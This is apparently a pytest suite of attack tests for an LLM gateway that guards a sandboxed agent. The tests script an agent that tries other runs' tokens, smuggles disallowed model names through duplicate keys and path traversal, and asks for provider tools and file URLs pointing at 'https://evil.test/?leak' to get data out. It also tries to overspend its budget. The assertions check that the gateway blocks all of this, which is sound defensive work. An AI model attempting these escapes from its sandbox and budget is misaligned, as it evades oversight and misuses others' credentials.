"""Attacks on the models' gateway: tokens, other models, and what a provider could be made to do."""

import pytest

from integrations.stubs.models.script import Answer, Rule, Script
from tests.attacks.stage import Stage
from worker.domain.access import CallOutcome
from worker.domain.budget import Budget
from worker.domain.events import Outcome

pytestmark = pytest.mark.attacks


def test_another_runs_token(stage: Stage) -> None:
    """The agent uses the token of another run that is open at the same time, no token, an old form
    of it and guesses: each door knows its own token only.
    """
    with stage.another_door() as (_, other):
        attempt = stage.attack(
            """
other = FACTS["other"]
body = {"model": "coder", "messages": [{"role": "user", "content": "hello"}]}
path = "/openai/v1/chat/completions"
attempt("other run's", lambda: answered(ask(path, body, token=other)))
attempt("other run's, its model", lambda: answered(ask(path, {**body, "model": "other"}, other)))
attempt("none", lambda: answered(ask(path, body, token="")))
attempt("a part", lambda: answered(ask(path, body, token=TOKEN[:-1])))
attempt("upper case", lambda: answered(ask(path, body, token=TOKEN.swapcase())))
attempt("in a list", lambda: answered(ask(path, body, token=other + ", " + TOKEN)))
attempt("as a key", lambda: answered(ask(path + "?key=" + other, body, token="")))
attempt("as x-api-key", lambda: answered(ask(path, body, token="", headers={"x-api-key": other})))
attempt("list of models", lambda: answered(ask("/openai/v1/models", token=other)))
work()
""",
            facts={"other": other},
        )
    assert attempt.succeeded == set()
    assert len(attempt.failed) == 9
    assert attempt.model_requests == []
    assert {call.outcome for call in attempt.session.calls} == {CallOutcome.NOT_ALLOWED}
    assert attempt.outcome is Outcome.ACCEPTED


def test_a_model_that_is_not_allowed(stage: Stage) -> None:
    """The agent names dearer models, the judge's, other providers', and hides the name in a second
    key, another spelling, a list or a path: only the run's own model is ever called.
    """
    attempt = stage.attack(
        """
for name in ["judge", "gpt-5-pro", "Coder", "coder ", "coder\\u0000", "openai:judge",
             "coder/../judge", "*", ["judge"], {"a": "judge"}, 5, True]:
    attempt("model %r" % (name,), lambda: answered(chat(model=name)))
twice = b'{"model":"coder","messages":[{"role":"user","content":"x"}],"model":"judge"}'
attempt("last of two", lambda: answered(ask("/openai/v1/chat/completions", twice)))
attempt("responses", lambda: answered(ask("/openai/v1/responses",
        {"model": "judge", "input": "x"})))
message = {"model": "claude", "max_tokens": 50, "messages": [{"role": "user", "content": "x"}]}
attempt("other provider", lambda: answered(ask("/anthropic/v1/messages", message)))
attempt("no name there", lambda: answered(ask("/anthropic/v1/messages", {**message, "model": ""})))
attempt("gemini", lambda: answered(ask("/gemini/v1beta/models/pro:generateContent",
        {"contents": [{"parts": [{"text": "x"}]}]})))
attempt("gemini by path", lambda: answered(ask(
        "/gemini/v1beta/models/..%2f..%2fjudge:generateContent", {"contents": []})))
first = b'{"model":"judge","messages":[{"role":"user","content":"x"}],"model":"coder"}'
print("first of two:", ask("/openai/v1/chat/completions", first)[0])
attempt("none named", lambda: answered(ask("/openai/v1/chat/completions",
        {"messages": [{"role": "user", "content": "x"}]})))
work()
"""
    )
    assert attempt.succeeded == {"none named"}
    assert len(attempt.failed) == 18
    assert {request["model"] for request in attempt.model_requests} <= {"coder"}
    assert attempt.outcome is Outcome.ACCEPTED


REACHING = """
def send(path, body):
    return answered(ask(path, body))
CHAT, RESPONSES = "/openai/v1/chat/completions", "/openai/v1/responses"
user = [{"role": "user", "content": "x"}]
tools = {
    "web_search": {"type": "web_search"},
    "file_search": {"type": "file_search", "vector_store_ids": ["v"]},
    "code_interpreter": {"type": "code_interpreter", "container": {"type": "auto"}},
    "mcp": {"type": "mcp", "server_label": "x", "server_url": "https://evil.test"},
    "computer": {"type": "computer_use_preview"},
    "shell there": {"type": "shell", "environment": {"type": "container_auto"}},
    "image": {"type": "image_generation"},
    "hidden": {"type": "namespace", "tools": [{"type": "web_search"}]},
}
for name, tool in tools.items():
    attempt("tool " + name, lambda: send(RESPONSES, {"model": "coder", "input": "x",
            "tools": [tool]}))
attempt("tool of chat", lambda: send(CHAT, {"model": "coder", "messages": user,
        "tools": [{"type": "web_search"}]}))
more = {"web_search_options": {"a": 1}, "plugins": [{"id": "web"}], "audio": {"voice": "x"},
        "mcp_servers": [{"url": "https://evil.test"}], "modalities": ["text", "audio"],
        "background": True, "store": True, "prediction": {"content": "x"}}
for name, value in more.items():
    attempt("field " + name, lambda: send(CHAT, {"model": "coder", "messages": user, name: value}))
for name in ["previous_response_id", "conversation", "prompt", "background"]:
    attempt("stored " + name, lambda: send(RESPONSES, {"model": "coder", "input": "x", name: "y"}))
"""


def test_tools_that_run_at_the_provider(stage: Stage) -> None:
    """The agent asks for the provider's web search, code, files, MCP servers and stored answers, by
    which something could be fetched or brought out: the gateway refuses each by name.
    """
    attempt = stage.attack(REACHING + "work()\n")
    assert attempt.succeeded == set()
    assert len(attempt.failed) == 21
    assert attempt.model_requests == []
    assert attempt.outcome is Outcome.ACCEPTED


def test_addresses_that_a_provider_would_fetch(stage: Stage) -> None:
    """The agent sends pictures and files by URL, in all protocols' forms and deep inside, so that
    the provider fetches what it cannot reach: only content in the request itself is passed on.
    """
    attempt = stage.attack(
        """
bad = "https://evil.test/?leak"
def message(*content):
    return {"model": "coder", "messages": [{"role": "user", "content": list(content)}]}
parts = {
    "image_url": {"type": "image_url", "image_url": {"url": bad}},
    "plain image_url": {"type": "image_url", "image_url": bad},
    "file": {"type": "file", "file": {"file_url": bad}},
    "file id": {"type": "file", "file": {"file_id": "file-1"}},
    "video": {"type": "video_url", "video_url": {"url": bad}},
    "spelling": {"type": "image_url", "imageUrl": {"URL": bad}},
    "source": {"type": "image", "source": {"type": "url", "url": bad}},
    "late": {"type": "image_url", "image_url": {"url": " data:x", "alt": {"url": bad}}},
}
for name, part in parts.items():
    attempt(name, lambda: answered(ask("/openai/v1/chat/completions", message(part))))
for name, item in {
    "input_image": {"role": "user", "content": [{"type": "input_image", "image_url": bad}]},
    "input_file": {"role": "user", "content": [{"type": "input_file", "file_url": bad}]},
    "reference": {"type": "item_reference", "id": "r"},
}.items():
    attempt(name, lambda: answered(ask("/openai/v1/responses",
            {"model": "coder", "input": [item]})))
data = {"type": "image_url", "image_url": {"url": "data:image/png;base64,AAAA"}}
attempt("in the request", lambda: answered(ask("/openai/v1/chat/completions", message(data))))
work()
"""
    )
    assert attempt.succeeded == {"in the request"}
    assert len(attempt.failed) == 11
    assert len(attempt.model_requests) == 1
    assert "evil.test" not in repr(attempt.model_requests)
    assert attempt.outcome is Outcome.ACCEPTED


def _answers(tokens: int, **more: float) -> Script:
    return Script([Rule([Answer("x" * 4000, output_tokens=tokens, **more)], repeat=True)])  # type: ignore[arg-type]


def test_overspending_by_calls_at_once(stage: Stage) -> None:
    """The agent makes forty calls at once on a budget for four: what a call may cost is held before
    it is passed on, so the ceiling holds, and the other calls are refused.
    """
    attempt = stage.attack(
        """
def one():
    print("call", chat("x", max_tokens=1000)[0])
threads = [threading.Thread(target=one) for _ in range(40)]
[each.start() for each in threads], [each.join() for each in threads]
""",
        models=_answers(1000, delay_seconds=0.2),
        budget=Budget(max_seconds=600, max_tokens=4060, max_micro_usd=None),
    )
    assert attempt.said.count("call 200") == 4
    assert len(attempt.model_requests) <= 4
    assert attempt.run.spend.tokens <= 4060
    assert CallOutcome.OVER_BUDGET in {call.outcome for call in attempt.session.calls}
    assert attempt.outcome is not Outcome.ACCEPTED


def test_overspending_by_hanging_up(stage: Stage) -> None:
    """The agent begins streams and hangs up before the usage comes, again and again: what the
    provider wrote is counted all the same, and the ceiling holds.
    """
    attempt = stage.attack(
        """
body = json.dumps({"model": "coder", "stream": True, "max_tokens": 1000,
                   "messages": [{"role": "user", "content": "x"}]}).encode()
for number in range(30):
    with socket.create_connection(("127.0.0.1", 8080), timeout=10) as line:
        line.sendall(b"POST /openai/v1/chat/completions HTTP/1.1\\r\\nHost: x\\r\\n"
                     b"Content-Type: application/json\\r\\nAuthorization: Bearer " + TOKEN.encode()
                     + b"\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(body) + body)
        print("stream", line.recv(12))
    time.sleep(0.05)
""",
        models=_answers(1000),
        budget=Budget(max_seconds=600, max_tokens=4060, max_micro_usd=None),
    )
    assert attempt.said.count("200") >= 1
    assert len(attempt.model_requests) <= 4
    assert attempt.run.spend.tokens <= 4060
    assert attempt.run.spend.tokens >= 1000 * (len(attempt.model_requests) - 1)
    assert attempt.outcome is not Outcome.ACCEPTED


def test_overspending_by_what_is_asked_for(stage: Stage) -> None:
    """The agent asks for many answers at once and for huge, negative and strange maxima: many are
    refused, and a maximum is cut to what is left of the budget before the provider sees it.
    """
    attempt = stage.attack(
        """
for name, value in {"n": 50, "best_of": 9, "n as text": "5", "n as float": 2.5}.items():
    attempt(name, lambda: answered(chat(**{name.split(" ")[0]: value})))
for value in [10**12, -1, 0, 1.5, "1000", [1], True, 10**400]:
    attempt("maximum " + repr(value)[:20], lambda: answered(chat(max_tokens=value)))
print("cut to fit:", chat("x", max_tokens=9_000_000)[0])
work()
""",
        models=_answers(50),
        budget=Budget(max_seconds=600, max_tokens=20_000, max_micro_usd=None),
    )
    assert attempt.succeeded == set()
    assert len(attempt.failed) == 12
    assert "cut to fit: 200" in attempt.said
    assert len(attempt.model_requests) == 1
    assert attempt.outcome is Outcome.ACCEPTED


def test_going_on_when_the_budget_is_used_up(stage: Stage) -> None:
    """The agent ignores that the budget is used up and goes on calling: no call is passed on any
    more, the agent is ended long before its time is up, and the run ends as over its budget.
    """
    attempt = stage.attack(
        """
while True:
    print(chat("x", max_tokens=1000)[0])
    time.sleep(0.1)
""",
        models=_answers(1000),
        rounds=2,
        budget=Budget(max_seconds=600, max_tokens=3000, max_micro_usd=None),
        agent_timeout_seconds=280,
    )
    assert len(attempt.model_requests) <= 3
    assert "stopped" in attempt.failure
    assert attempt.session.spend.seconds < 200
    assert attempt.outcome is Outcome.OVER_BUDGET
